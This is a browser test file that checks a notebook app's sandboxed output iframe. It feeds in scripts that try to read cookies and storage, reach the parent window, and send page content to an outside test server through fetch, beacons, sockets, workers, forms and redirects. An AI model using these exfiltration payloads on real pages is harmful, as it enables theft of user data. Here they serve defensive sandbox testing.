/** The output frame in a real browser, with scripts that try to get out. */
import { existsSync } from "node:fs";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chromium, type Browser, type Page } from "@playwright/test";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { isRefusal } from "../../protocol/refusal.ts";
import { createHttpServer, listen } from "./http-server.ts";

const executablePath = process.env["CARNET_CHROMIUM"] ?? "/usr/bin/chromium";
const installed = existsSync(executablePath);

/** A page of ours as the notebook's: it frames outputs, and keeps what they answer. */
const ourPage = (nonce: string) => `<!doctype html><title>ours</title><div id="place"></div><script nonce="${nonce}">
  window.heights = []; window.said = [];
  addEventListener("message", (event) => window.said.push(event.data));
  window.show = (content, mime = "text/html") => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.src = "/output-frame";
    frame.onload = () => {
      frame.onload = null;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = (event) => window.heights.push(event.data);
      frame.contentWindow.postMessage({ type: "carnet:render", content, mime, theme: "light" }, "*", [port2]);
    };
    document.getElementById("place").replaceChildren(frame);
  };
</script>`;

describe.skipIf(!installed)(`the output frame${installed ? "" : " (Chromium is not installed: skipped)"}`, () => {
  let browser: Browser;
  let page: Page;
  let ours: Server;
  let theirs: Server;
  let address = "";
  let away = "";
  /** Requests that reached the other server, or pages of ours, because of an output. */
  let leaked: string[] = [];

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
    theirs = createServer((request, response) => {
      leaked.push(`theirs ${request.url}`);
      response.setHeader("access-control-allow-origin", "*").end("stolen");
    }).listen(0, "127.0.0.1");
    await once(theirs, "listening");
    away = `http://127.0.0.1:${(theirs.address() as AddressInfo).port}`;
    ours = createHttpServer({
      origin: undefined,
      proxies: 0,
      dev: false,
      async pages(request, response) {
        if (request.url !== "/" && request.url !== "/favicon.ico")
          leaked.push(`ours ${request.url} ${request.headers.cookie ?? ""}`.trim());
        response.setHeader("content-type", "text/html").setHeader("set-cookie", "secret=1; HttpOnly; SameSite=Lax");
        response.end(ourPage(String(request.headers["x-nonce"])));
      },
      async upgrade() {},
    });
    const listening = await listen(ours, { port: 0, host: "127.0.0.1" });
    if (isRefusal(listening)) throw new Error(JSON.stringify(listening));
    address = `http://127.0.0.1:${listening.port}`;
  });
  afterAll(async () => {
    await browser.close();
    for (const server of [ours, theirs]) server.close();
  });
  beforeEach(async () => {
    page = await browser.newPage();
    await page.goto(address);
    leaked = [];
  });

  const show = (content: string, mime?: string) =>
    page.evaluate(([html, kind]) => (window as unknown as { show(html: string, kind?: string): void }).show(html!, kind), [content, mime]);
  const heard = (name: "heights" | "said", count = 1) =>
    page
      .waitForFunction(([list, least]) => (window as never as Record<string, unknown[]>)[list].length >= least, [name, count] as const)
      .then(() => page.evaluate((list) => (window as never as Record<string, unknown[]>)[list], name));

  test("writes HTML once, runs its scripts, and says each height", async () => {
    await show(`<div id="box" style="height:120px"></div><script>setTimeout(() => { box.style.height = "300px" }, 0)</script>`);
    const heights = await heard("heights", 2);
    expect(heights.at(-1)).toEqual({ type: "carnet:height", height: 300 });
  });

  test("shows an SVG at its size", async () => {
    await show(`<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"><circle r="9"/></svg>`, "image/svg+xml");
    expect((await heard("heights")).at(-1)).toEqual({ type: "carnet:height", height: 80 });
  });

  test("reaches neither the page around it, nor storage, nor cookies", async () => {
    await show(`<script>
      const attempt = (name, work) => { try { return name + " " + String(work()) } catch (error) { return name + " " + error.name } };
      parent.postMessage([
        attempt("parent", () => parent.document.title),
        attempt("top", () => top.location.href),
        attempt("cookie", () => document.cookie),
        attempt("storage", () => localStorage.length),
        attempt("origin", () => self.origin),
        attempt("open", () => window.open("${away}/open")),
      ], "*");
    </script>`);
    expect(await heard("said")).toEqual([
      ["parent SecurityError", "top SecurityError", "cookie SecurityError", "storage SecurityError", "origin null", "open null"],
    ]);
    expect(leaked).toEqual([]);
  });

  test("loads nothing from anywhere, ours included", async () => {
    await show(`<img src="${away}/image"><link rel="stylesheet" href="${away}/style"><script src="${away}/script"></script>
      <iframe src="${away}/frame"></iframe><object data="${away}/object"></object><video src="${away}/video"></video>
      <link rel="prefetch" href="${away}/prefetch"><style>body { background: url(${away}/background) }</style>
      <form id="form" action="${away}/form" method="post"></form>
      <script>
        form.submit();
        navigator.sendBeacon("${away}/beacon");
        Promise.allSettled([
          fetch("${away}/fetch"), fetch("${address}/fetch"), import("${away}/module"),
          new Promise((resolve, reject) => { new EventSource("${away}/events").onerror = reject }),
          new Promise((resolve, reject) => { new WebSocket("${away.replace("http", "ws")}/socket").onerror = reject }),
          new Promise((resolve, reject) => { const worker = new Worker("data:text/javascript,fetch('${away}/worker')"); worker.onerror = reject }),
        ]).then((results) => parent.postMessage(results.map(({ status }) => status), "*"));
      </script>`);
    expect(await heard("said")).toEqual([Array.from({ length: 6 }, () => "rejected")]);
    expect(leaked).toEqual([]);
  });

  test.each([
    ["itself elsewhere", () => `location.href = "${away}/left?" + encodeURIComponent(document.body.textContent)`],
    ["itself to a page of ours", () => `location.href = "${address}/api/link/x"`],
    ["the whole window", () => `top.location.href = "${away}/top"`],
    ["itself by a refresh", () => `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${away}/refresh">'`],
  ])("cannot send %s", async (_, script) => {
    const blocked = page.waitForEvent("console", (message) =>
      /Content Security Policy|Unsafe attempt|Unsafe JavaScript|sandboxed/i.test(message.text()),
    );
    await show(`secret<script>addEventListener("load", () => 0); ${script()};</script>`);
    await blocked;
    expect(leaked).toEqual([]);
    expect(page.url()).toBe(`${address}/`);
  });

  test("opened as a page of its own it is in the sandbox all the same", async () => {
    await page.goto(`${address}/output-frame`);
    expect(await page.evaluate(() => self.origin)).toBe("null");
  });
});
